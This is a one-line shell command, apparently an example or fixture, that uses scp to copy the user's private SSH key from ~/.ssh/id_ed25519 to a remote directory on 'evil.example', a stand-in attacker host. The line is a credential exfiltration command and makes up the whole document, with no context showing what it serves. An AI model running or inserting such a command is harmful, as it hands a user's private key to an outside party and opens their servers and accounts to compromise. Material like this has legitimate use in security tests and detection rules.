scp ~/.ssh/id_ed25519 drop@evil.example:/keys/
